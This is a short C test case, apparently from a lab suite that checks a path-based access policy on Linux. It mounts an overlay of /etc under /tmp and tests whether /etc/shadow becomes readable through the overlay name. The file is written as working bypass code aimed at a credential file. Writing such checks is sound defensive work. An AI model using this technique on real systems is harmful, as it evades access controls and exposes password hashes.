// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Mounts an overlay of /etc in /tmp, which the policy gave away, and reads the
 * secret there: by its name in the overlay it may be read.
 * Source: 6.12 survey, "overlayfs". Control: it can be read.
 */
#define _GNU_SOURCE
#include <sys/mount.h>
#include <sys/stat.h>

#include "attack.h"

void attack(void)
{
	const char *directories[] = { "/tmp/lab-over", "/tmp/lab-over/empty", "/tmp/lab-over/view" };

	for (int i = 0; i < 3; i++)
		if (mkdir(directories[i], 0755) && errno != EEXIST)
			no_effect(errno);
	if (mount("none", directories[2], "overlay", 0, "lowerdir=/etc:/tmp/lab-over/empty"))
		no_effect(errno);
	judge(file_readable("/tmp/lab-over/view/shadow"));
}
